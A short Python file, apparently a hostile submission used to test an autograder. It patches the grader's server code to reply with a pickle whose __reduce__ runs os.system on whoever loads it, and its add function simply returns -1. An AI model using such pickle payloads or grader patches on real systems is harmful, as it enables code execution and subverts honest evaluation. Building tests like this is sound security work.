"""Answers with a pickle, where the judge would have to load it."""

import gc, json, os, socket, struct, sys


def connection():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Wire":
            return thing.sock


def send(message, body=b"", sizes=None):
    text = message if isinstance(message, bytes) else json.dumps(message).encode()
    connection().sendall(struct.pack("<II", *(sizes or (len(text), len(body)))) + text + body)


import pickle


class Run:
    def __reduce__(self):
        return os.system, ("touch __COURSE__/__MARK__",)


serving = sys.modules["autograder.wire.serving"]
serving.Server.perform = lambda self, question, decoder: (
    serving.Answer(["other", "pickle", 0, len(pickle.dumps(Run()))]),
    Parts(),
)


class Parts:
    parts = [pickle.dumps(Run())]


def add(a, b):
    return -1
